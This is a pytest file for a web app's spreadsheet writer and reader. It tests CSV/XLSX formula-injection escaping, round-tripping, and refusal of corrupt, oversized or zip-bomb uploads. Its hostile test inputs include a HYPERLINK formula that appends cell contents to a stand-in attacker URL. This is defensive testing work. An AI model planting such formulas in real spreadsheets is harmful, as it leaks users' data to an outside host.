"""The one spreadsheet writer: nothing a person typed runs as a formula, and
what is written reads back as the same text."""

import csv
import datetime
import io
import zipfile

import django_tables2 as tables
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference

from core import spreadsheets
from core.tables import configure_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-  seed text",
    "@SUM(A1:A2)",
    "\tindented",
    "\rreturn",
    "'=already quoted",
    "''+twice quoted",
]
HARMLESS = ["1a", "Jo Fisher", "'quoted but harmless", "", "a - b", "x=y"]


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_that_would_run_as_a_formula_starts_with_a_quote(text):
    cells = csv_cells(spreadsheets.write_csv([["Lead"], [text]]))
    assert cells[1][0] == "'" + text
    assert not cells[1][0].startswith(spreadsheets.FORMULA_STARTS)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_written_as_it_is(text):
    assert csv_cells(spreadsheets.write_csv([["Lead"], [text]]))[1] == [text]


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_every_text_reads_back_from_csv_and_xlsx_exactly_as_written(text):
    rows = [["Ref", "Lead"], ["1a", text]]
    kwargs = {"max_rows": 10, "max_unpacked_bytes": 10_000_000}
    assert spreadsheets.read_table("plan.csv", spreadsheets.write_csv(rows), **kwargs)[1] == [
        "1a",
        text,
    ]
    from_xlsx = spreadsheets.read_table("plan.xlsx", spreadsheets.write_xlsx(rows), **kwargs)
    assert from_xlsx[1] == (["1a", text] if text else ["1a"])  # an empty cell is no cell


@pytest.mark.parametrize("text", HOSTILE)
def test_an_xlsx_cell_is_text_never_a_formula(text):
    content = spreadsheets.write_xlsx([["Lead"], [text]])
    cell = load_workbook(io.BytesIO(content)).worksheets[0]["A2"]
    assert cell.data_type == "s"
    assert spreadsheets.xlsx_unescape(cell.value) == text
    assert cell.quotePrefix is True
    # and the workbook's XML holds no formula element at all
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    assert b"<f " not in sheet_xml


def test_dates_stay_dates_and_numbers_stay_numbers():
    day = datetime.date(2016, 3, 31)
    content = spreadsheets.write_xlsx([["Due", "Count", "Change"], [day, 12, -5]])
    due, count, change = load_workbook(io.BytesIO(content)).worksheets[0][2]
    assert (due.value.date(), due.data_type, due.number_format) == (
        day,
        "d",
        "yyyy-mm-dd",
    )
    assert (count.value, count.data_type) == (12, "n")
    assert (change.value, change.data_type) == (-5, "n")
    assert csv_cells(spreadsheets.write_csv([[day, 12, -5, None]]))[0] == [
        "2016-03-31",
        "12",
        "-5",
        "",
    ]


@given(st.text(max_size=40))
def test_escaping_is_a_bijection(text):
    escaped = spreadsheets.csv_escape(text)
    assert spreadsheets.csv_unescape(escaped) == text
    assert not escaped.startswith(spreadsheets.FORMULA_STARTS)
    assert spreadsheets.xlsx_unescape(spreadsheets.xlsx_escape(text)) == text


@settings(max_examples=50, deadline=None)
@given(st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=30))
def test_any_text_survives_a_round_trip_through_xlsx(text):
    content = spreadsheets.write_xlsx([["Lead"], [text]])
    rows = spreadsheets.read_table("t.xlsx", content, max_rows=5, max_unpacked_bytes=10**7)
    assert rows[1:] == ([[text]] if text.strip() else [])


def test_a_download_is_named_and_typed():
    response = spreadsheets.spreadsheet_response([["A"], ["=1"]], fmt="csv", filename="alpha")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="alpha.csv"'
    assert response.content == "\ufeffA\r\n'=1\r\n".encode()


# --- reading what people upload ------------------------------------------------


def read(name, content, max_rows=10, max_unpacked_bytes=10_000_000):
    return spreadsheets.read_table(
        name, content, max_rows=max_rows, max_unpacked_bytes=max_unpacked_bytes
    )


def xlsx(rows):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_time_and_duration_cells_read_as_text():
    rows = read("t.xlsx", xlsx([["A", "B"], [datetime.time(9, 30), datetime.timedelta(hours=3)]]))
    assert rows[1] == ["09:30:00", "3:00:00"]


def test_a_workbook_with_only_a_chart_sheet_is_refused_with_a_message():
    book = Workbook()
    data = book.active
    data.append([1])
    chart = BarChart()
    chart.add_data(Reference(data, min_col=1, min_row=1, max_row=1))
    book.create_chartsheet().add_chart(chart)
    book.remove(data)
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(spreadsheets.SpreadsheetError, match="no sheet of rows"):
        read("chart.xlsx", out.getvalue())


@pytest.mark.parametrize(
    "damage",
    [
        lambda c: c[: len(c) // 2],
        lambda c: c.replace(b"worksheets/sheet1.xml", b"worksheets/sheetX.xml"),
        lambda c: _replace_member(c, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row>"),
        lambda c: _replace_member(c, "xl/workbook.xml", b"not xml at all"),
    ],
)
def test_a_corrupt_workbook_is_refused_with_a_message(damage):
    content = damage(xlsx([["Ref", "Action"], ["1a", "x"]]))
    with pytest.raises(spreadsheets.SpreadsheetError):
        read("broken.xlsx", content)


def _replace_member(content: bytes, name: str, data: bytes) -> bytes:
    """The workbook with one member replaced, or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info.filename, source.read(info))
        target.writestr(name, data)
    return out.getvalue()


def test_a_workbook_that_unpacks_past_the_limit_is_refused_before_it_is_opened():
    bomb = _replace_member(
        xlsx([["Ref"], ["1a"]]), "xl/media/padding.bin", b" " * 3_000_000
    )  # a few KB packed, 3 MB unpacked
    assert len(bomb) < 50_000
    with pytest.raises(
        spreadsheets.SpreadsheetError,
        match=r"The workbook unpacks to 2\.9 MB; the most Assure opens is 1\.0 MB\.",
    ):
        read("bomb.xlsx", bomb, max_unpacked_bytes=1_048_576)


def test_a_file_with_more_rows_than_the_limit_is_refused_with_the_limit():
    content = b"Ref,Action\n" + b"1a,x\n" * 100_000
    with pytest.raises(
        spreadsheets.SpreadsheetError,
        match="more than 2,000 rows; Assure imports at most 2,000 rows at a time",
    ):
        read("big.csv", content, max_rows=2000)
    with pytest.raises(spreadsheets.SpreadsheetError, match="at most 3 rows"):
        read("big.xlsx", xlsx([["Ref"]] + [["1a"]] * 4), max_rows=3)
    assert len(read("ok.xlsx", xlsx([["Ref"]] + [["1a"]] * 3), max_rows=3)) == 4


@pytest.mark.parametrize(
    ("claimed", "expected"),
    [
        ("A1:XFD3000", [["Ref", "Action"], ["1a", "Do it"], ["1b", "Then this"]]),  # too big
        ("A1:B1", [["Ref", "Action"], ["1a", "Do it"], ["1b", "Then this"]]),  # too small
    ],
)
def test_a_workbook_is_read_by_its_cells_not_the_size_it_claims(claimed, expected):
    content = xlsx([["Ref", "Action"], ["1a", "Do it"], ["1b", "Then this"]])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    sheet_xml = sheet_xml.replace(b'<dimension ref="A1:B3"', f'<dimension ref="{claimed}"'.encode())
    assert claimed.encode() in sheet_xml
    rows = read("claims.xlsx", _replace_member(content, "xl/worksheets/sheet1.xml", sheet_xml))
    assert rows == expected


def test_a_row_wider_than_the_column_limit_is_cut_at_the_limit():
    rows = read("wide.xlsx", xlsx([["Ref", *[None] * 300, "far"], ["1a", *["x"] * 300]]))
    assert rows[0] == ["Ref"]
    assert rows[1] == ["1a", *["x"] * (spreadsheets.MAX_COLUMNS - 1)]


def test_blank_rows_do_not_count_towards_the_limit():
    assert read("gaps.csv", b"Ref\n,\n1a\n\n ,\n1b\n", max_rows=2) == [["Ref"], ["1a"], ["1b"]]


# --- the list pages' exports --------------------------------------------------


class LeadTable(tables.Table):
    ref = tables.Column(verbose_name="Ref")
    lead = tables.Column(verbose_name="Lead")
    due = tables.DateColumn(verbose_name="Due")
    count = tables.Column(verbose_name="Count")
    actions = tables.Column(verbose_name="", empty_values=(), exclude_from_export=True)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_list_page_export_goes_through_the_safe_writer(fmt, rf):
    data = [
        {
            "ref": "1a",
            "lead": '=HYPERLINK("http://evil.example")',
            "due": datetime.date(2016, 3, 31),
            "count": 3,
        }
    ]
    response = configure_table(rf.get("/", {"_export": fmt}), LeadTable(data), filename="actions")
    assert response["Content-Disposition"] == f'attachment; filename="actions.{fmt}"'
    if fmt == "csv":
        assert csv_cells(response.content) == [
            ["Ref", "Lead", "Due", "Count"],
            ["1a", '\'=HYPERLINK("http://evil.example")', "2016-03-31", "3"],
        ]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        lead, due, count = sheet["B2"], sheet["C2"], sheet["D2"]
        assert (lead.value, lead.data_type) == ('=HYPERLINK("http://evil.example")', "s")
        assert (due.value.date(), due.data_type) == (datetime.date(2016, 3, 31), "d")
        assert (count.value, count.data_type) == (3, "n")
